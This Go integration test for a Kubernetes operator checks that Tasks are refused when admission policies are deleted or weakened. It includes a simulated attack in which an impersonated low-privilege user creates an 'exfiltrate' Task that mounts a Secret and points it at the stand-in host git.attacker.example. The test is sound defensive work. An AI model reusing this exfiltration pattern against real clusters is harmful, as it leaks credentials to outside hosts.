package controller_test

import (
	"context"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubeopencode/kubeopencode/api/v1alpha1"
	"github.com/kubeopencode/kubeopencode/operator/internal/controller"
	kocpolicy "github.com/kubeopencode/kubeopencode/policy/kubeopencode"
	kocrbac "github.com/kubeopencode/kubeopencode/rbac/kubeopencode"
)

// TestT22NoTaskStartsWithoutThePolicies: with the Task-references binding deleted, a task author
// bound only to the generated personas gets a Task admitted that names a Secret they may not
// read (the attack of T19). The operator does not start it: the Task fails naming the missing
// binding, no Pod is created, and the Agent's Ready condition says the same. A policy that was
// changed (the "use" check replaced by true) is refused the same way, naming the field.
func TestT22NoTaskStartsWithoutThePolicies(t *testing.T) {
	ctx := context.Background()
	ns := env.Namespace(ctx, t)
	startOperator(t, []string{ns})
	ag := agent(ns, "coder")
	create(t, ag)
	waitAgentReady(t, ag, metav1.ConditionTrue, v1alpha1.ReasonValid, "")

	generated := kocpolicy.Policies(kocpolicy.PoliciesOptions{})
	refs := generated[1]
	if refs.Binding.Name != kocpolicy.DefaultTaskReferencesPolicyName {
		t.Fatalf("policy order changed: %s", refs.Binding.Name)
	}
	t.Cleanup(func() { restorePolicies(t) })
	if err := env.Client.Delete(ctx, refs.Binding.DeepCopy()); err != nil {
		t.Fatal(err)
	}
	wantMissing := "ValidatingAdmissionPolicyBinding " + kocpolicy.DefaultTaskReferencesPolicyName + " (T19) is missing"
	waitAgentReady(t, ag, metav1.ConditionFalse, v1alpha1.ReasonAdmissionPoliciesMissing, wantMissing)

	// The attacker: task-author and agent-user personas only, naming a Secret they cannot read.
	const user = "mallory"
	ensurePersonas(t)
	for _, p := range []kocrbac.Persona{kocrbac.PersonaTaskAuthor, kocrbac.PersonaAgentUser} {
		create(t, &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: p.RoleName() + "-" + user},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: p.RoleName()},
			Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: user}},
		})
	}
	create(t, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "deploy-key"}, StringData: map[string]string{"token": "s3cr3t"}})
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user}
	mallory, err := client.New(cfg, client.Options{Scheme: env.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	tk := task(ns, "exfiltrate", ns, ag.Name, func(tk *v1alpha1.Task) {
		tk.Spec.Contexts = []v1alpha1.ContextItem{{Type: v1alpha1.ContextTypeGit, MountPath: "/workspace/loot", Git: &v1alpha1.GitContext{
			Repository: "https://git.attacker.example/loot.git", SecretRef: &v1alpha1.LocalSecretReference{Name: "deploy-key"}}}}
	})
	// RBAC bindings, and the binding's deletion, reach the API server's authorizer and admission
	// plugin asynchronously: retry while refused, bounded.
	var last error
	_ = wait.PollUntilContextTimeout(ctx, 50*time.Millisecond, 30*time.Second, true, func(ctx context.Context) (bool, error) {
		last = mallory.Create(ctx, tk.DeepCopy())
		return !apierrors.IsForbidden(last), nil
	})
	if last != nil {
		t.Fatalf("the API server should admit the Task without the binding: %v", last)
	}
	got := waitPhase(t, tk, v1alpha1.TaskPhaseFailed)
	if c := succeeded(got); c.Reason != v1alpha1.ReasonAdmissionPoliciesMissing || !strings.Contains(c.Message, wantMissing) {
		t.Errorf("Succeeded = %s %q, want %s naming %q", c.Reason, c.Message, v1alpha1.ReasonAdmissionPoliciesMissing, wantMissing)
	}
	if pods := podsOf(t, got); len(pods) != 0 {
		t.Errorf("the Task got %d Pods", len(pods))
	}
	waitEvent(t, got, v1alpha1.ReasonAdmissionPoliciesMissing)

	// A weakened policy: the "use" check replaced by true.
	restorePolicies(t)
	weakened := generated[0].Policy.DeepCopy()
	mutate(t, weakened, func(p *admissionregistrationv1.ValidatingAdmissionPolicy) {
		p.Spec.Validations[1].Expression = "true"
	})
	wantDiffers := "ValidatingAdmissionPolicy " + kocpolicy.DefaultAdmissionPolicyName + " (T2) differs from the generated one in spec.validations"
	waitAgentReady(t, ag, metav1.ConditionFalse, v1alpha1.ReasonAdmissionPoliciesMissing, wantDiffers)
	tk2 := task(ns, "after-weakening", ns, ag.Name)
	create(t, tk2)
	got = waitPhase(t, tk2, v1alpha1.TaskPhaseFailed)
	if c := succeeded(got); c.Reason != v1alpha1.ReasonAdmissionPoliciesMissing || !strings.Contains(c.Message, wantDiffers) {
		t.Errorf("Succeeded = %s %q, want %s naming %q", c.Reason, c.Message, v1alpha1.ReasonAdmissionPoliciesMissing, wantDiffers)
	}

	// Restored, and settled: the Agent is Ready again and a new Task starts.
	restorePolicies(t)
	waitAgentReady(t, ag, metav1.ConditionTrue, v1alpha1.ReasonValid, "")
	tk3 := task(ns, "after-restore", ns, ag.Name)
	create(t, tk3)
	waitPhase(t, tk3, v1alpha1.TaskPhaseRunning)
}

// restorePolicies puts every generated policy and binding back as generated and waits until
// the newest was created controller.PolicyLoadGrace (plus a second of timestamp resolution) ago,
// so later Tasks are not "too recent".
func restorePolicies(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	var newest time.Time
	for _, g := range kocpolicy.Policies(kocpolicy.PoliciesOptions{}) {
		for _, want := range []client.Object{g.Policy, g.Binding} {
			have := want.DeepCopyObject().(client.Object)
			err := env.Client.Get(ctx, client.ObjectKeyFromObject(want), have)
			switch {
			case apierrors.IsNotFound(err):
				have = want.DeepCopyObject().(client.Object)
				if err := env.Client.Create(ctx, have); err != nil {
					t.Fatalf("recreating %s: %v", want.GetName(), err)
				}
			case err != nil:
				t.Fatal(err)
			default:
				switch h := have.(type) {
				case *admissionregistrationv1.ValidatingAdmissionPolicy:
					h.Spec = *g.Policy.Spec.DeepCopy()
				case *admissionregistrationv1.ValidatingAdmissionPolicyBinding:
					h.Spec = *g.Binding.Spec.DeepCopy()
				}
				if err := env.Client.Update(ctx, have); err != nil {
					t.Fatalf("restoring %s: %v", want.GetName(), err)
				}
			}
			if c := have.GetCreationTimestamp().Time; c.After(newest) {
				newest = c
			}
		}
	}
	if d := time.Until(newest.Add(controller.PolicyLoadGrace + time.Second)); d > 0 {
		time.Sleep(d) // a clock condition: Tasks created from now on are checked by these policies
	}
}

// ensurePersonas creates the generated persona ClusterRoles once.
func ensurePersonas(t *testing.T) {
	t.Helper()
	for _, p := range kocrbac.Personas() {
		role, err := kocrbac.PersonaClusterRole(p)
		if err != nil {
			t.Fatal(err)
		}
		if err := env.Client.Create(context.Background(), role); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
	}
}

// waitAgentReady waits until the Agent's Ready condition has that status and reason, and a
// message containing msg.
func waitAgentReady(t *testing.T, ag *v1alpha1.Agent, status metav1.ConditionStatus, reason, msg string) {
	t.Helper()
	eventually(t, 30*time.Second, "Agent "+ag.Name+" Ready "+string(status)+" "+reason, func(ctx context.Context) (bool, error) {
		got := &v1alpha1.Agent{}
		if err := env.Client.Get(ctx, client.ObjectKeyFromObject(ag), got); err != nil {
			return false, err
		}
		c := meta.FindStatusCondition(got.Status.Conditions, v1alpha1.ConditionReady)
		return c != nil && c.Status == status && c.Reason == reason && strings.Contains(c.Message, msg), nil
	})
}
